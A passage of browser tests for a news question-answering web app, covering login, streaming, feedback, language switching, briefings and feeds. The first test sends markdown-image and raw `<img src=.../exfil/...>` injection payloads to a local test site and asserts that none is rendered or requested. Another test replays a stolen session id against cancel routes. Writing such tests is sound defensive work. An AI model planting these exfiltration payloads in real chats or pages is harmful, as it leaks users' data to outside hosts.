        expect(bot).to_contain_text("[g]: http://")
        expect(bot.locator("strong")).to_have_text("tebal")
        expect(bot.locator('a[href="#src-1-1"]').first).to_have_text("[1]")

        page.locator("#new-chat-btn").click()
        question = f"Berapa harga cabai rawit di Bandung? ![q][q] <img src={site.base}/exfil/question>\n" \
                   f"[q]: {site.base}/exfil/question-ref"
        ui.ask(question, 1)
        user = page.locator('#chatbot [data-testid="user"]').last
        expect(user).to_contain_text("![q][q]")
        expect(user).to_contain_text(f"<img src={site.base}/exfil/question>")
        card = page.locator("#sources-panel .src-card", has_text="Harian Uji").first
        expect(card.locator(".src-title")).to_have_text(article["title"])
        expect(card.locator(".src-passage")).to_contain_text("![p][p]")
        page.get_by_role("tab", name="Library").click()
        expect(page.locator("#lib-table")).to_contain_text("![t](")

        time.sleep(1.0)  # anything the page was going to load has been asked for by now
        shown = ['#chatbot [data-testid="bot"]', '#chatbot [data-testid="user"]', "#sources-panel",
                 "#answer-details", "#lib-table [role=gridcell]"]  # not the widgets' own icons and inputs
        assert page.locator(", ".join(f"{scope} :is({HOSTILE_TAGS})" for scope in shown)).count() == 0
        hrefs = page.locator("#chatbot a[href]").evaluate_all("els => els.map(e => e.getAttribute('href'))")
        assert hrefs and all(h.startswith("#src-") for h in hrefs), hrefs
        assert site.hits_under("/exfil") == [] and exfil_requests == [], (site.hits, exfil_requests)
        assert ui.dialogs == [] and ui.external == []
        ui.close()
    finally:
        demo.close()


@pytest.mark.browser
def test_thumbs_up_writes_a_feedback_line(open_page, web):
    path = web["settings"].data_dir / "feedback.jsonl"
    before = len(read_feedback(web["settings"]))
    ui = open_page()
    ui.ask("Siapa CEO interim Scale AI?", 1)
    ui.page.locator('#chatbot button[aria-label="Like"]').last.click()
    expect(ui.page.locator('#chatbot button[aria-label="Liked"]')).to_have_count(1)
    deadline = time.time() + 15
    while len(read_feedback(web["settings"])) == before and time.time() < deadline:
        time.sleep(0.1)
    record = read_feedback(web["settings"])[-1]
    assert path.is_file()
    assert record["rating"] == "up" and record["question"] == "Siapa CEO interim Scale AI?"
    assert record["answer"] and record["backend"] == "extractive"
    assert record["citations"] and record["citations"][0]["title"]


@pytest.mark.browser
def test_interface_language_follows_browser_and_toggle(open_page):
    ui = open_page(locale="id-ID")
    page = ui.page
    expect(page.get_by_role("tab", name="Obrolan")).to_be_visible()
    expect(page.locator("#send-btn")).to_have_text("Kirim")
    expect(page.locator("#sources-panel")).to_contain_text("Sumber jawaban")  # made on the server
    combo = page.locator("#ui-lang input[role=combobox]")
    combo.click()
    page.get_by_role("option", name="English").click()
    expect(page.get_by_role("tab", name="Chat")).to_be_visible()
    expect(page.locator("#send-btn")).to_have_text("Send")
    expect(page.locator("#sources-panel")).to_contain_text("The sources of an answer appear here.")
    page.reload(wait_until="domcontentloaded")
    expect(page.locator("#send-btn")).to_have_text("Send")  # remembered


@pytest.mark.browser
def test_login_rejects_a_wrong_password(browser, web, monkeypatch):
    monkeypatch.setenv("WARTA_UI_USER", "redaksi")
    monkeypatch.setenv("WARTA_UI_PASSWORD", "rahasia-123")
    port = free_port()
    demo = serve(web["settings"], host="127.0.0.1", port=port, assistant=web["assistant"], block=False)
    try:
        ui = Page(browser, f"http://127.0.0.1:{port}/", wait_for="input[type=password]")
        page = ui.page
        expect(page.locator("#chatbot")).to_have_count(0)
        expect(page.get_by_text("5 wrong passwords pause logins from your address for 5 min")).to_be_visible()
        user, password = page.get_by_role("textbox", name="username"), page.locator("input[type=password]")
        user.fill("redaksi")
        password.fill("salah")
        page.get_by_role("button", name="Login").click()
        expect(page.get_by_text("Incorrect Credentials")).to_be_visible()
        expect(page.locator("#chatbot")).to_have_count(0)
        user.fill("redaksi")
        password.fill("rahasia-123")
        page.get_by_role("button", name="Login").click()
        expect(page.locator("#chatbot")).to_be_visible()
        ui.close()
    finally:
        demo.close()


@pytest.mark.browser
def test_nobody_else_can_stop_a_logged_in_users_answer(browser, web, monkeypatch):
    """Gradio's cancel and heartbeat routes act on a session id without asking for a login. With a login set
    they need one, so someone who learns a user's session id (from a proxy's log, say) cannot stop that
    user's answer or close their session, and the user's own Stop and streaming still work."""
    monkeypatch.setenv("WARTA_UI_USER", "redaksi")
    monkeypatch.setenv("WARTA_UI_PASSWORD", "rahasia-123")
    with streaming_server(web, words=40, delay_s=0.1) as url:
        ui = Page(browser, url, wait_for="input[type=password]")
        page = ui.page
        page.get_by_role("textbox", name="username").fill("redaksi")
        page.locator("input[type=password]").fill("rahasia-123")
        page.get_by_role("button", name="Login").click()
        box = page.locator("#msg textarea")
        with page.expect_response(lambda r: "/gradio_api/queue/join" in r.url) as joined:
            box.fill("Why did OpenAI drop Scale AI?")
            box.press("Enter")
        session, event_id = joined.value.request.post_data_json, joined.value.json()["event_id"]
        expect(ui.bot()).to_contain_text("kata1 ")  # streaming
        with httpx.Client(base_url=url, trust_env=False, timeout=10) as stranger:
            cancel = stranger.post("gradio_api/cancel", json={"session_hash": session["session_hash"],
                                                              "fn_index": session["fn_index"], "event_id": event_id})
            with stranger.stream("GET", f"gradio_api/heartbeat/{session['session_hash']}") as heartbeat:
                heartbeat_status = heartbeat.status_code
        ui.wait_answer(1)
        expect(ui.bot()).to_contain_text("selesai")
        assert (cancel.status_code, heartbeat_status) == (401, 401), cancel.text

        box.fill("Why did OpenAI drop Scale AI?")  # the user's own Stop still works
        box.press("Enter")
        expect(ui.bot()).to_contain_text("kata1 ")
        page.locator("#stop-btn").click()
        expect(page.locator("#send-btn")).to_be_visible()
        time.sleep(1.0)
        expect(ui.bot()).not_to_contain_text("selesai")
        ui.close()


@pytest.mark.browser
def test_the_question_box_is_locked_while_an_answer_streams_and_opens_after(browser, web):
    """A question sent leaves the box at once; the box takes no new question until the answer is done or stopped
    (Gradio would drop one sent while the answer event is pending), then takes the next one."""
    with streaming_server(web, words=200, delay_s=0.05) as url:  # ~20 s (a word and a space a piece)
        ui = Page(browser, url)
        box = ui.page.locator("#msg textarea")
        box.fill("Why did OpenAI drop Scale AI?")
        box.press("Enter")
        expect(ui.bot()).to_contain_text("kata1 ")  # streaming
        expect(box).to_have_value("")
        expect(box).to_be_disabled()
        ui.wait_answer(1)
        expect(ui.bot()).to_contain_text("selesai")
        expect(box).to_be_editable()

        box.fill("Siapa CEO interim Scale AI?")  # stopped half-way: the box opens again
        box.press("Enter")
        expect(ui.bot(1)).to_contain_text("kata1 ")
        expect(box).to_be_disabled()
        ui.page.locator("#stop-btn").click()
        expect(box).to_be_editable()
        ui.ask("Why did OpenAI drop Scale AI?", 3)  # the stopped answer keeps its number
        expect(ui.bot()).to_contain_text("selesai")
        assert ui.page.locator('#chatbot [data-testid="user"]').count() == 3
        ui.close()


@pytest.mark.slow
@pytest.mark.browser
def test_seed_conversation_on_the_local_llm(browser, web, tmp_path_factory):
    """The seed conversation users tried, with the bundled model in the browser: the question, then the follow-up
    "and who is the interim CEO?", answered from the conversation with the name the article gives (a few minutes
    on 2 cores)."""
    settings = web["settings"].updated({"answer": {"backend": "local"}})
    prepare_local_model(settings)
    assistant = Assistant(settings, index=web["assistant"].index, embedder=web["assistant"].embedder)
    port = free_port()
    demo = serve(settings, host="127.0.0.1", port=port, assistant=assistant, block=False)
    try:
        ui = Page(browser, f"http://127.0.0.1:{port}/")
        ui.ask("Why did OpenAI drop Scale AI?", 1, timeout=480_000)  # model start + prompt + answer
        expect(ui.bot().locator('a[href="#src-1-1"]').first).to_have_text("[1]")
        expect(ui.page.locator("#src-1-1 .src-title")).to_have_text(SEED_TITLE)
        expect(ui.page.locator("#answer-details")).to_contain_text("backend: local")
        expect(ui.page.locator("#answer-details")).to_contain_text("qwen2.5-coder-1.5b")
        ui.ask("and who is the interim CEO?", 2, timeout=480_000)
        expect(ui.bot()).to_contain_text("Jason Droege")
        expect(ui.bot()).not_to_contain_text("could not find the answer")
        expect(ui.bot()).not_to_contain_text("CEO of OpenAI")  # he is Scale AI's
        # under the answer, the article's own sentence that names him, set off as a quote with a working marker
        quote = ui.bot().locator("blockquote").last
        expect(quote).to_contain_text("Quoted from the articles")
        expect(quote).to_contain_text("Jason Droege")
        expect(quote.locator('a[href^="#src-2-"]').first).to_be_visible()
        expect(ui.bot().locator('a[href="#src-2-1"]').first).to_have_text("[1]")
        expect(ui.page.locator("#src-2-1 .src-title")).to_have_text(SEED_TITLE)
        assert ui.dialogs == [] and ui.external == []
        ui.close()
    finally:
        demo.close()
        assistant.close()


def test_a_warm_up_timeout_is_a_warning_and_other_failures_keep_their_trace(caplog):
    """A model slow to read its prompts on a busy machine is no error (answers still come); anything else is."""
    import httpx
    from openai import APITimeoutError

    class Failing:
        def __init__(self, exc: Exception) -> None:
            self.exc = exc

        def warm_up(self, backend):
            raise self.exc

    for exc in (APITimeoutError(request=httpx.Request("POST", "http://127.0.0.1/v1")), RuntimeError("boom")):
        app = WebApp.__new__(WebApp)
        app.assistant, app.backend = Failing(exc), "local"
        app.warm_up()
    timeout, failure = caplog.records[-2:]
    assert timeout.levelname == "WARNING" and "did not finish (APITimeoutError" in timeout.getMessage()
    assert timeout.exc_info is None
    assert failure.levelname == "ERROR" and failure.exc_info is not None


@pytest.mark.browser
def test_a_date_range_in_a_question_is_shown_and_one_click_searches_all_dates(browser, tmp_path, models_dir, embedder):
    """The developing-story fixture (a flood, 5-10 February 2024), asked on 8 February: "kemarin" is 7 February."""
    story = REPO / "benchmarks" / "data" / "temporal" / "developing_story.jsonl"
    settings = make_settings(tmp_path / "data", models_dir, time={"now": "2024-02-08"})
    assistant = Assistant(settings, embedder=embedder)
    assert not Ingestor(settings, index=assistant.index, embedder=embedder).ingest([str(story)]).failed
    port = free_port()
    demo = serve(settings, host="127.0.0.1", port=port, assistant=assistant, block=False)
    ui = Page(browser, f"http://127.0.0.1:{port}/")
    try:
        page = ui.page
        ui.ask("Berapa korban tewas banjir Tirtamaya kemarin?", 1)
        note = page.locator("#time-note")
        expect(note).to_contain_text("7 February 2024")  # the interface is English; the range is shown
        expect(note).to_contain_text("kemarin")
        cards = page.locator('#sources-panel [data-turn="1"] .src-card')
        expect(cards.first).to_be_visible()
        assert "2024-02-07" in cards.first.inner_text()  # the asked day first
        page.locator("#drop-dates-btn").click()  # one click: the same question over all dates
        ui.wait_answer(2)
        expect(page.locator("#time-row")).to_be_hidden()
        expect(page.locator('#chatbot [data-testid="user"]')).to_have_count(2)
        expect(page.locator('#chatbot [data-testid="user"]').last).to_have_text(
            "Berapa korban tewas banjir Tirtamaya kemarin?")
        first = page.locator('#sources-panel [data-turn="2"] .src-card').first.inner_text()
        assert "2024-02-07" not in first  # all dates: the closest passage, whatever its day
        expect(page.locator("#msg textarea")).to_be_editable()
    finally:
        ui.close()
        demo.close()


@pytest.mark.browser
def test_the_briefing_tab_shows_what_came_in_cited_then_only_what_came_after_the_last_visit(open_page, web):
    ui = open_page()
    page = ui.page
    page.get_by_role("tab", name="Briefing").click()
    body = page.locator("#brief-body")
    expect(body.locator(".brief-title")).to_contain_text("Briefing since")  # a first visit: the last 24 hours
    titles = body.locator(".brief-item h4")
    expect(titles).to_have_count(2)
    expect(titles.filter(has_text=SEED_TITLE)).to_have_count(1)
    expect(titles.filter(has_text=XSS)).to_have_count(1)  # an article's markup is shown as text, never run
    for n in (1, 2):  # every marker leads to its source card
        expect(body.locator(f'.brief-item a[href="#src-0-{n}"]').first).to_have_text(f"[{n}]")
        expect(body.locator(f"#src-0-{n} .src-title")).not_to_be_empty()
    # a topic keeps only the articles about it
    page.locator("#brief-topic textarea, #brief-topic input").first.fill("OpenAI Scale AI")
    page.locator("#brief-topic textarea, #brief-topic input").first.press("Enter")
    expect(body.locator(".brief-title")).to_contain_text("OpenAI Scale AI")
    expect(body.locator(".brief-item")).to_have_count(1)
    # the next opening counts from this one: nothing came in since
    page.reload(wait_until="domcontentloaded")
    page.get_by_role("tab", name="Briefing").click()
    expect(body.locator(".brief-empty")).to_contain_text("No new articles since")


def test_library_lists_feeds_with_their_state_and_adds_and_removes_one(browser, embedder, site, tmp_path, models_dir):
    """The Library tab's feeds: a failing feed shows its error and next poll; one added is polled at once (its
    articles appear), and removing it keeps them."""
    from ingest.feeds import FeedPoller
    from tests.helpers.feedsite import FeedSite

    feed = FeedSite(site)
    feed.publish(0)
    feed.publish(1, summary_only=True)
    down = FeedSite(site, path="/down/rss.xml")
    down.mode = "down"
    settings = make_settings(tmp_path / "data", models_dir, ingest={"allow_private_urls": True},
                             feeds={"poll": False})  # polled here, by the page: no background poll to race
    assistant = Assistant(settings, embedder=embedder)
    FeedPoller(settings).add(down.url, every="30m")
    assert FeedPoller(settings).poll(down.url).status == "failed"
    port = free_port()
    demo = serve(settings, host="127.0.0.1", port=port, assistant=assistant, block=False)
    try:
        ui = Page(browser, f"http://127.0.0.1:{port}/")
        page = ui.page
        page.get_by_role("tab", name="Library").click()
        feeds = page.locator("#lib-feeds-table")
        failing = feeds.get_by_role("row").filter(has_text=down.url)
        expect(failing).to_contain_text("HTTP 500 Internal Server Error (×1)")
        expect(failing).to_contain_text("30m")

        page.locator("#lib-feed-url textarea").fill(feed.url)
        page.locator("#lib-feed-every textarea").fill("1h")
        page.locator("#lib-feed-add-btn").click()
        status = page.locator("#lib-feed-status")
        expect(status).to_contain_text(f"ok: {feed.url}: 2 new or changed entries ingested")
        row = feeds.get_by_role("row").filter(has_text=feed.url)
        expect(row).to_contain_text("1h")
        expect(row).to_contain_text("2 / 2")
        expect(page.locator("#lib-table")).to_contain_text(feed.entries[0]["title"])

        page.locator("#lib-feed-url textarea").fill(feed.url)
        page.locator("#lib-feed-remove-btn").click()
        expect(status).to_contain_text(f"Feed “{feed.url}” removed; its articles stay in the library.")
        expect(feeds).not_to_contain_text(feed.url)
        expect(feeds).to_contain_text(down.url)
        assert len(assistant.index.articles()) == 2
        ui.close()
    finally:
        demo.close()
        assistant.close()


@pytest.mark.browser
def test_the_briefing_tab_speaks_indonesian_to_an_indonesian_browser(open_page):
    ui = open_page(locale="id-ID")
    page = ui.page
    page.get_by_role("tab", name="Ringkasan").click()
    body = page.locator("#brief-body")
    expect(body.locator(".brief-title")).to_contain_text("Ringkasan sejak")
    expect(body.locator(".brief-note")).to_contain_text("dikutip dalam bahasa artikelnya")
    expect(body.locator(".brief-sources")).to_have_text("Sumber")
